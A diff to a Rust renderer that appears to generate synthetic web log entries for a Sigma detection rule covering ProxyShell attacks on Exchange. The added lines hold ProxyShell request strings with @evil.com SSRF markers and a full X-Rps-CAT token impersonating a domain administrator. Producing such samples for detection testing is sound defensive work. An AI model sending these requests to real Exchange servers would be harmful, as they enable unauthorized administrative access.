@@ -300,13 +300,15 @@ impl<'a> Renderer<'a> {
                     Rule::ProxyShell => {
                         // Sigma 23eee45e: 401, and the *query field itself* holds
                         // `/autodiscover.json` plus `/mapi/nspi` or `/powershell`+`X-Rps-CAT`
-                        // (and `Email=autodiscover/autodiscover.json`).
+                        // (and `Email=autodiscover/autodiscover.json`). The token is
+                        // whole, as public exploit tools write it: administrator@contoso.com,
+                        // SID ...-500, in Administrators (S-1-5-32-544).
                         self.stem.push_str("/autodiscover/autodiscover.json");
-                        if ev.arg & 1 == 0 {
+                        if src.rule.impersonates(ev.arg).is_none() {
                             self.q.push_str("@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com");
                         } else {
                             self.q.push_str(
-                                "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCE5lZ290aWF0ZQ%3D%3D&Email=autodiscover/autodiscover.json%3F@evil.com",
+                                "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBlhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29tVSxTLTEtNS0yMS0xMDA0MzM2MzQ4LTExNzcyMzg5MTUtNjgyMDAzMzMwLTUwMEcBAAAABwAAAAxTLTEtNS0zMi01NDRFAAAAAA%3D%3D&Email=autodiscover/autodiscover.json%3F@evil.com",
                             );
                         }
                         ("GET", "python-requests/2.31.0")
